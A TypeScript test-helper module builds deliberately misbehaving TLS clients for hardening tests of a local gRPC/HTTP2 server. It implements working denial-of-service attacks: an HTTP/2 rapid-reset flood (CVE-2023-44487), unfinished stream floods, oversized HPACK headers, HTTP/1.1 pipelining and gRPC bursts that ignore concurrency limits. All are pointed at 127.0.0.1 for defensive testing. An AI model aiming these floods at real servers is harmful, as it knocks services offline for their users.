import { connect as http2Connect, constants, type ClientHttp2Session } from 'node:http2';
import { readFileSync } from 'node:fs';
import { connect as tlsConnect, type TLSSocket } from 'node:tls';

/**
 * Misbehaving clients for the hardening tests and `npm run flood`: each speaks real TLS 1.3 to 127.0.0.1 only, is
 * bounded in count and time, and ends by itself.
 */
export interface TlsClientOptions {
  readonly port: number;
  /** The CA that issued the server's certificate (PEM). */
  readonly ca: string | Buffer;
  /** A client certificate and key (PEM), for mutual-TLS listeners. */
  readonly cert?: string | Buffer;
  readonly key?: string | Buffer;
}

const HOST = '127.0.0.1';

const tlsOptions = ({ ca, cert, key }: TlsClientOptions) => ({
  ca,
  ...(cert !== undefined ? { cert } : {}),
  ...(key !== undefined ? { key } : {}),
  servername: 'localhost',
  minVersion: 'TLSv1.3' as const,
});

export interface Http2Connection {
  readonly session: ClientHttp2Session;
  /** Drops the connection as a vanished client would (no GOAWAY, no TLS close_notify). */
  drop(): void;
}

/** An HTTP/2 connection as a gRPC client opens it; resolves once connected. */
export function openHttp2(options: TlsClientOptions): Promise<Http2Connection> {
  return new Promise((resolve, reject) => {
    let socket: TLSSocket | undefined;
    const session = http2Connect(`https://${HOST}:${options.port}`, {
      createConnection: () => {
        socket = tlsConnect({ host: HOST, port: options.port, ALPNProtocols: ['h2'], ...tlsOptions(options) });
        return socket;
      },
    });
    session.once('connect', () =>
      resolve({
        session,
        drop: () => {
          socket?.destroy();
          session.destroy();
        },
      }),
    );
    session.once('error', reject);
  });
}

/** The headers of a gRPC call to `path` (the body never comes, or comes later). */
export const grpcHeaders = (path: string) => ({
  ':method': 'POST',
  ':path': path,
  'content-type': 'application/grpc',
  te: 'trailers',
});

export const CREATE_CAPSULE_PATH = '/cdoc2.capsules.v1.KeyCapsuleSenderService/CreateKeyCapsule';

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');

const frame = (type: number, flags: number, streamId: number, payload: Buffer): Buffer => {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header[3] = type;
  header[4] = flags;
  header.writeUInt32BE(streamId, 5);
  return Buffer.concat([header, payload]);
};

/** HPACK literal header field without indexing, new name (RFC 7541 6.2.2); lengths below 127. */
const literal = (name: string, value: string): Buffer =>
  Buffer.concat([
    Buffer.from([0x00, name.length]),
    Buffer.from(name, 'latin1'),
    Buffer.from([value.length]),
    Buffer.from(value, 'latin1'),
  ]);

/** The header block of a well-formed gRPC call: :method POST, :scheme https (static table), then literals. */
const headerBlock = (path: string): Buffer =>
  Buffer.concat([
    Buffer.from([0x83, 0x87]),
    literal(':path', path),
    literal(':authority', 'localhost'),
    literal('content-type', 'application/grpc'),
    literal('te', 'trailers'),
  ]);

/**
 * HTTP/2 rapid reset (CVE-2023-44487) as an attacker sends it: raw HEADERS + RST_STREAM(CANCEL) pairs, written in
 * bulk without reading anything back, for `durationMs` or until the server stops reading; then the attacker
 * vanishes (its socket is destroyed with data still unsent, as when a process dies). Resolves with the streams
 * written.
 */
export async function rapidReset(
  options: TlsClientOptions & {
    durationMs: number;
    maxStreams?: number;
    path?: string;
    /** `vanish`: the socket is destroyed; `freeze`: the attacker stops reading and writing but keeps it open. */
    then: 'vanish' | 'freeze';
  },
): Promise<{ sent: number; socket: TLSSocket }> {
  const socket = await connectTls(options, ['h2']);
  // Reads what the server sends (SETTINGS, GOAWAY), so that closing does not reset the connection.
  socket.resume();
  const block = headerBlock(options.path ?? CREATE_CAPSULE_PATH);
  const cancel = Buffer.alloc(4);
  cancel.writeUInt32BE(constants.NGHTTP2_CANCEL);
  socket.write(Buffer.concat([PREFACE, frame(0x4, 0, 0, Buffer.alloc(0))]));
  const deadline = Date.now() + options.durationMs;
  const maxStreams = options.maxStreams ?? 1_000_000;
  let streamId = 1;
  let sent = 0;
  while (Date.now() < deadline && sent < maxStreams && !socket.destroyed) {
    const batch: Buffer[] = [];
    for (let i = 0; i < 200 && sent < maxStreams; i++, sent++, streamId += 2) {
      batch.push(frame(0x1, 0x4, streamId, block), frame(0x3, 0, streamId, cancel));
    }
    if (!socket.write(Buffer.concat(batch))) {
      // The server stopped reading: wait for it to drain, but no longer than the attack lasts.
      await new Promise<void>((resolve) => {
        const done = (): void => {
          clearTimeout(timer);
          socket.off('drain', done);
          socket.off('close', done);
          resolve();
        };
        const timer = setTimeout(done, Math.max(0, deadline - Date.now()));
        socket.once('drain', done);
        socket.once('close', done);
      });
    }
  }
  if (options.then === 'vanish') {
    // The process dies: the kernel is left to deliver what was written, then a FIN.
    socket.destroy();
  } else {
    // A frozen process: the kernel still ACKs, but nothing above it reads or answers.
    socket.pause();
  }
  return { sent, socket };
}

/** A TLS 1.3 connection to 127.0.0.1, resolved once the handshake is done. */
export function connectTls(options: TlsClientOptions, alpn: string[]): Promise<TLSSocket> {
  return new Promise((resolve, reject) => {
    const socket = tlsConnect({ host: HOST, port: options.port, ALPNProtocols: alpn, ...tlsOptions(options) }, () => {
      socket.off('error', reject);
      socket.on('error', () => {});
      resolve(socket);
    });
    socket.once('error', reject);
  });
}

export interface RawFrame {
  readonly type: number;
  readonly streamId: number;
  /** The error code of RST_STREAM and GOAWAY frames. */
  readonly code?: number;
  /** The parameters of a SETTINGS frame (not an acknowledgement), by identifier (RFC 9113 6.5.2). */
  readonly settings?: Readonly<Record<number, number>>;
}

export const FRAME = { RST_STREAM: 0x3, SETTINGS: 0x4, GOAWAY: 0x7 } as const;
export const COMPRESSION_ERROR = 0x9;
export const REFUSED_STREAM = 0x7;

/** Resolves when the server closes `socket`, or after `timeoutMs`, whichever comes first. */
const closedOrTimedOut = (socket: TLSSocket, timeoutMs: number): Promise<void> =>
  new Promise<void>((resolve) => {
    const timer = setTimeout(resolve, timeoutMs);
    socket.once('close', () => {
      clearTimeout(timer);
      resolve();
    });
  });

/** Calls `onFrame` for each whole frame the server sends on `socket` (RFC 9113 4.1: a 9-octet header, a payload). */
function eachFrame(
  socket: TLSSocket,
  onFrame: (type: number, flags: number, streamId: number, payload: Buffer) => void,
): void {
  let received = Buffer.alloc(0);
  socket.on('data', (chunk: Buffer) => {
    received = Buffer.concat([received, chunk]);
    while (received.length >= 9) {
      const length = received.readUIntBE(0, 3);
      if (received.length < 9 + length) {
        break;
      }
      const header = received;
      received = received.subarray(9 + length);
      onFrame(
        header[3] as number,
        header[4] as number,
        header.readUInt32BE(5) & 0x7fffffff,
        header.subarray(9, 9 + length),
      );
    }
  });
}

/** Collects the frames the server sends on `socket` (a raw HTTP/2 connection). */
function readFrames(socket: TLSSocket): () => RawFrame[] {
  const frames: RawFrame[] = [];
  eachFrame(socket, (type, flags, streamId, payload) => {
    const code =
      type === FRAME.RST_STREAM ? payload.readUInt32BE(0) : type === FRAME.GOAWAY ? payload.readUInt32BE(4) : undefined;
    if (type === FRAME.SETTINGS && flags === 0) {
      const settings: Record<number, number> = {};
      for (let offset = 0; offset + 6 <= payload.length; offset += 6) {
        settings[payload.readUInt16BE(offset)] = payload.readUInt32BE(offset + 2);
      }
      frames.push({ type, streamId, settings });
    } else {
      frames.push(code === undefined ? { type, streamId } : { type, streamId, code });
    }
  });
  return () => frames;
}

/**
 * Opens `streams` gRPC streams on one raw HTTP/2 connection without ever finishing them (no body, no END_STREAM)
 * and without acknowledging the server's SETTINGS, as a flooding client would. Returns the frames the server
 * sent back, and the socket (the caller destroys it).
 */
export async function openStreams(
  options: TlsClientOptions & { streams: number; path?: string },
): Promise<{ socket: TLSSocket; frames: () => RawFrame[] }> {
  const socket = await connectTls(options, ['h2']);
  const frames = readFrames(socket);
  const block = headerBlock(options.path ?? CREATE_CAPSULE_PATH);
  const out: Buffer[] = [PREFACE, frame(0x4, 0, 0, Buffer.alloc(0))];
  for (let i = 0, streamId = 1; i < options.streams; i++, streamId += 2) {
    out.push(frame(0x1, 0x4, streamId, block));
  }
  socket.write(Buffer.concat(out));
  return { socket, frames };
}

/** An HPACK integer (RFC 7541 5.1) with a `prefixBits`-bit prefix, the bits above it set to `flags`. */
function hpackInteger(value: number, prefixBits: number, flags: number): Buffer {
  const max = (1 << prefixBits) - 1;
  if (value < max) {
    return Buffer.from([flags | value]);
  }
  const bytes = [flags | max];
  for (let rest = value - max; ; rest = Math.floor(rest / 128)) {
    if (rest < 128) {
      bytes.push(rest);
      break;
    }
    bytes.push((rest % 128) + 128);
  }
  return Buffer.from(bytes);
}

/**
 * One gRPC call whose metadata has a single entry of `valueBytes` octets, sent as an HPACK literal without Huffman
 * coding (RFC 7541 6.2.2), in a HEADERS frame and CONTINUATION frames of 16 KiB; the connection is left open.
 * Returns the frames the server sent back, and the socket (the caller destroys it).
 */
export async function oneLargeHeaderField(
  options: TlsClientOptions & { valueBytes: number },
): Promise<{ socket: TLSSocket; frames: () => RawFrame[] }> {
  const socket = await connectTls(options, ['h2']);
  const frames = readFrames(socket);
  const name = Buffer.from('x-large', 'latin1');
  const block = Buffer.concat([
    headerBlock(CREATE_CAPSULE_PATH),
    Buffer.from([0x00]),
    hpackInteger(name.length, 7, 0),
    name,
    hpackInteger(options.valueBytes, 7, 0),
    Buffer.alloc(options.valueBytes, 'a'),
  ]);
  const out: Buffer[] = [PREFACE, frame(0x4, 0, 0, Buffer.alloc(0))];
  const chunk = 16 * 1024;
  for (let offset = 0; offset < block.length; offset += chunk) {
    const last = offset + chunk >= block.length;
    // HEADERS first, then CONTINUATION; END_HEADERS on the last, END_STREAM on the HEADERS frame.
    out.push(
      frame(
        offset === 0 ? 0x1 : 0x9,
        (last ? 0x4 : 0) | (offset === 0 ? 0x1 : 0),
        1,
        block.subarray(offset, offset + chunk),
      ),
    );
  }
  socket.write(Buffer.concat(out));
  return { socket, frames };
}

/**
 * HTTP/1.1 pipelining: `requests` GETs of `path` written in one go on one connection (with a client certificate
 * for the recipient listener). Resolves, when the server closes the connection or after `timeoutMs`, with the
 * statuses of the responses read.
 */
export async function pipeline(
  options: TlsClientOptions & { requests: number; path: string; timeoutMs: number },
): Promise<number[]> {
  const socket = await connectTls(options, ['http/1.1']);
  let text = '';
  socket.setEncoding('latin1');
  socket.on('data', (chunk: string) => (text += chunk));
  const request = `GET ${options.path} HTTP/1.1\r\nHost: localhost\r\n\r\n`;
  socket.write(request.repeat(options.requests));
  await closedOrTimedOut(socket, options.timeoutMs);
  socket.destroy();
  return [...text.matchAll(/HTTP\/1\.1 (\d{3}) /g)].map((match) => Number(match[1]));
}

/**
 * The server's ESTABLISHED TCP sockets on `port` (127.0.0.1), from /proc/net/tcp: the sockets whose local port is
 * the listener's, i.e. the server's side of each connection.
 */
export function establishedServerSockets(port: number): number {
  const hexPort = port.toString(16).toUpperCase().padStart(4, '0');
  return readFileSync('/proc/net/tcp', 'latin1')
    .split('\n')
    .slice(1)
    .filter((line) => {
      const fields = line.trim().split(/\s+/);
      return fields[1]?.endsWith(`:${hexPort}`) && fields[3] === '01';
    }).length;
}

/** A gRPC message as it travels in DATA frames: uncompressed flag, big-endian length, the protobuf bytes. */
const grpcMessage = (body: Buffer): Buffer => {
  const prefix = Buffer.alloc(5);
  prefix.writeUInt32BE(body.length, 1);
  return Buffer.concat([prefix, body]);
};

/**
 * `calls` complete unary gRPC calls (HEADERS, then DATA with END_STREAM) written in one go on one raw HTTP/2
 * connection, ignoring the server's SETTINGS_MAX_CONCURRENT_STREAMS as an attacker would. Reads the server's frames
 * (and grants it flow-control credit) until the server closes the connection or `timeoutMs` passes; resolves with
 * how many calls were answered (a HEADERS frame ending the stream: the trailers) and how many were refused
 * (RST_STREAM).
 */
export async function grpcBurst(
  options: TlsClientOptions & { calls: number; path: string; body: Buffer; timeoutMs: number },
): Promise<{ answered: number; refused: number }> {
  const socket = await connectTls(options, ['h2']);
  let answered = 0;
  let refused = 0;
  eachFrame(socket, (type, flags) => {
    if (type === FRAME.RST_STREAM) {
      refused++;
    } else if (type === 0x1 && (flags & 0x1) !== 0) {
      answered++;
    } else if (type === FRAME.SETTINGS && (flags & 0x1) === 0) {
      socket.write(frame(FRAME.SETTINGS, 0x1, 0, Buffer.alloc(0)));
    }
  });
  const block = headerBlock(options.path);
  const data = grpcMessage(options.body);
  // A large connection window, so that the answers are never held back by flow control.
  const windowUpdate = Buffer.alloc(4);
  windowUpdate.writeUInt32BE(0x7fff0000);
  const out: Buffer[] = [PREFACE, frame(0x4, 0, 0, Buffer.alloc(0)), frame(0x8, 0, 0, windowUpdate)];
  for (let i = 0, streamId = 1; i < options.calls; i++, streamId += 2) {
    out.push(frame(0x1, 0x4, streamId, block), frame(0x0, 0x1, streamId, data));
  }
  socket.write(Buffer.concat(out));
  await closedOrTimedOut(socket, options.timeoutMs);
  socket.destroy();
  return { answered, refused };
}
